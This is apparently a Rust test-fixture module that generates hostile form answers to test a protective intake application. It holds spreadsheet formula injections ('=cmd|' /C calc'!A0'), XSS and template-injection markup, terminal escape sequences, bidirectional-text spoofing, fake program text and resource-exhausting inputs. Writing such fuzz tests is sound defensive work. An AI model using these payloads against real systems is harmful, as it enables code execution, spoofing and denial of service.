//! Hostile answers: terminal commands, direction marks, text that looks like the program's own, spreadsheet formulas, markup;
//! and answers of the wrong type to every question.

use amanat_shared::form::QuestionType;
use serde_json::{Map, Value, json};

use super::generators::{Kind, answers};
use crate::world::form;

const EVIL: &str = "\u{1b}]0;evil\u{7}\u{9b}2J\u{202e}gpj.exe\u{2066}\u{2069}\u{2069}\r\n| NEVER\u{200f}\u{e0041}";

/// Returns all kinds of hostile answers.
pub fn kinds() -> Vec<Kind> {
    [texts(), types(), masses()].into_iter().flatten().collect()
}

fn note(name: &'static str, reads: &'static [&'static str], note: impl Fn() -> String + 'static) -> Kind {
    answers(name, reads, move || json!({ "risk_note": note(), "name_native": note(), "danger_7days": "yes" }))
}

fn texts() -> Vec<Kind> {
    vec![
        note("text_that_turns_direction", &["<U+202E>", "<U+2066>"], || {
            "pay \u{202e}000,1\u{202c} to \u{2066}\u{2067}x".to_owned()
        }),
        note("text_that_closes_our_isolation", &["<U+2069>"], || "ا\u{2069}\u{2069}ب\u{2069}".to_owned()),
        note("text_that_commands_a_terminal", &["<U+001B>", "<U+009B>"], || {
            "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[8m\u{9b}31m\u{1b}P+q\u{1b}\\\u{8}\u{7f}".to_owned()
        }),
        note("text_that_cannot_be_seen", &["<U+200B>", "<U+E0041>"], || "a\u{200b}\u{2060}\u{feff}\u{e0041}\u{3164}b".to_owned()),
        note("text_with_a_nul", &["<U+0000>"], || "before\u{0}after".to_owned()),
        note("text_that_poses_as_our_words", &["  | NEVER SHARE with anybody"], || {
            format!("x\n| NEVER SHARE with anybody\n+-- BEFORE YOU CONTACT THIS PERSON ---\r== Attachments{}", "\n".repeat(50))
        }),
        note("text_with_odd_line_ends", &["<U+2028>", "<U+000D>", "<U+0085>"], || "a\u{2028}b\rc\u{85}d\u{b}e\u{c}f".to_owned()),
        note("formula_of_a_command", &["=cmd|' /C calc'!A0"], || "=cmd|' /C calc'!A0".to_owned()),
        note("formula_with_a_plus", &["+HYPERLINK("], || "+HYPERLINK(\"http://example.org/?\"&A1,\"evil\")".to_owned()),
        note("formula_with_a_minus", &["-2+3+cmd"], || "-2+3+cmd|' /C calc'!A0".to_owned()),
        note("formula_with_an_at", &["@SUM(1+1)"], || "@SUM(1+1)*cmd|' /C calc'!A0".to_owned()),
        note("formula_behind_a_tab", &["<U+0009>"], || "\t=1+1\r=1+1\n=1+1".to_owned()),
        note("formula_behind_quotes", &["\",=1+1,\""], || "\",=1+1,\"".to_owned()),
        note("markup_of_a_script", &["<script>evil()</script>"], || "<script>evil()</script>".to_owned()),
        note("markup_of_a_picture", &["<img src=x onerror"], || {
            "<img src=x onerror=evil()><svg onload=evil()><iframe srcdoc='&lt;script&gt;'>".to_owned()
        }),
        note("markup_that_ends_attributes", &["\"><a href="], || {
            "'\"><a href=\"javascript:evil()\" style='position:fixed'>".to_owned()
        }),
        note("markup_in_other_writing", &["&#x3c;script"], || {
            "&#x3c;script&#x3e; \\u003cscript\\u003e %3Cscript%3E {{7*7}} ${7*7}".to_owned()
        }),
        note("text_of_many_marks", &["(cut here"], || format!("a{}", "\u{301}\u{489}".repeat(50_000))),
        note("text_without_an_end", &["(cut here"], || "e".repeat(1_900_000)),
        note("text_of_many_lines", &["(cut here"], || "\n".repeat(900_000)),
        note("text_of_unassigned_characters", &["<U+E000>"], || "\u{e000}\u{f8ff}\u{10fffd}\u{fff9}\u{ffff}".to_owned()),
        answers("text_everywhere", &["<U+202E>", "<U+001B>", "number:"], || {
            json!({
                "contact_channels": [EVIL, "signal"], "phone": { "raw": EVIL, "e164": EVIL }, "safe_word": EVIL, "danger_word": EVIL,
                "share_never": EVIL, "justice_role": EVIL, "country_now": EVIL, "name_native": EVIL, "risk_note": EVIL,
                "children_count": i64::MIN, "adults_count": i64::MAX, "submitter": EVIL, "is_update": EVIL,
                "dob": { "calendar": "solar", "precision": "day", "raw": EVIL, "earliest": EVIL, "latest": EVIL },
                "family_members": [{ "relation": EVIL, EVIL: EVIL }], "files": [EVIL], EVIL: { EVIL: [EVIL] },
            })
        }),
        answers("date_that_no_calendar_has", &["2147483647-255-255"], || {
            json!({
                "removal_date": { "calendar": "lunar", "precision": "day", "year": i32::MAX, "month": 255, "day": 255, "raw": "", "earliest": "0000-00-00" },
                "status_expiry": { "calendar": "solar", "precision": "ongoing", "raw": "", "earliest": "9999-99-99", "latest": "-1" },
                "dob": { "calendar": "gregorian", "precision": "age_in_year", "year": i32::MIN, "age": 255, "raw": "" },
            })
        }),
        answers("date_at_the_ends_of_time", &["0001-01-01"], || {
            let day = |day: &str| json!({ "calendar": "gregorian", "precision": "day", "raw": "", "earliest": day, "latest": day });
            json!({ "removal_date": day("0001-01-01"), "status_expiry": day("9999-12-31") })
        }),
        answers(
            "choice_that_the_form_has_not",
            &["not a choice of the form", "evil_choice"],
            || json!({ "danger_7days": "evil_choice", "country_now": "evil_choice", "removal_signs": ["none", "evil_choice"] }),
        ),
        answers(
            "question_that_the_form_has_not",
            &["not a question of the form", "evil_question"],
            || json!({ "evil_question": "x", "also": { "evil_question": true } }),
        ),
    ]
}

/// Answers every question of the form with this.
fn all_with(name: &'static str, reads: &'static [&'static str], answer: fn() -> Value) -> Kind {
    answers(name, reads, move || {
        let form = form();
        let questions = form.pages.iter().flat_map(|page| &page.questions);
        let asked = questions.filter(|question| question.r#type != QuestionType::Note);
        Value::Object(asked.map(|question| (question.name.clone(), answer())).collect::<Map<_, _>>())
    })
}

fn types() -> Vec<Kind> {
    vec![
        all_with("type_flag_everywhere", &["Yes (ticked)", "DO NOT CONTACT"], || json!(true)),
        all_with("type_number_everywhere", &["-9223372036854775808"], || json!(i64::MIN)),
        all_with("type_text_everywhere", &["not a choice of the form"], || json!("\u{202e}x")),
        all_with("type_empty_text_everywhere", &["DO NOT CONTACT"], || json!("")),
        all_with("type_list_everywhere", &["not a choice of the form"], || json!(["\u{1b}x", "none"])),
        all_with("type_empty_list_everywhere", &["DO NOT CONTACT"], || json!([])),
        all_with(
            "type_date_everywhere",
            &["The person does not know"],
            || json!({ "calendar": "solar", "precision": "unknown", "raw": "\u{1b}x" }),
        ),
        all_with("type_phone_everywhere", &["number: not clear"], || json!({ "raw": "\u{1b}x" })),
        all_with("type_group_everywhere", &["not a question of the form"], || json!({ "\u{1b}x": "\u{202e}y" })),
        all_with("type_empty_group_everywhere", &["DO NOT CONTACT"], || json!({})),
        all_with("type_repeat_everywhere", &["1.", "not a question of the form"], || json!([{ "\u{1b}x": 1 }, {}])),
    ]
}

fn masses() -> Vec<Kind> {
    vec![
        answers("mass_of_choices", &["more: `open` writes"], || json!({ "removal_signs": vec!["x"; 900_000] })),
        answers("mass_of_files", &["more: `open` writes"], || json!({ "files": vec![""; 1_300_000] })),
        answers("mass_of_items", &["more: `open` writes"], || json!({ "family_members": vec![json!({}); 1_300_000] })),
        answers("mass_of_questions", &["more: `open` writes"], || {
            Value::Object((0..300_000).map(|number| (format!("q{number}"), json!(1))).collect::<Map<_, _>>())
        }),
        answers("mass_in_a_group", &["more: `open` writes"], || {
            let members = (0..300_000).map(|number| (format!("q{number}"), json!(1))).collect::<Map<_, _>>();
            json!({ "trusted_contact": members })
        }),
        answers("mass_of_nests", &["more: `open` writes"], || {
            let nest = (0..60).fold(json!("x"), |inside, _| json!({ "a": inside }));
            json!({ "family_members": vec![nest; 8_000] })
        }),
        answers("name_of_a_question_of_a_megabyte", &["not a question of the form"], || json!({ "e".repeat(1_000_000): 1 })),
    ]
}
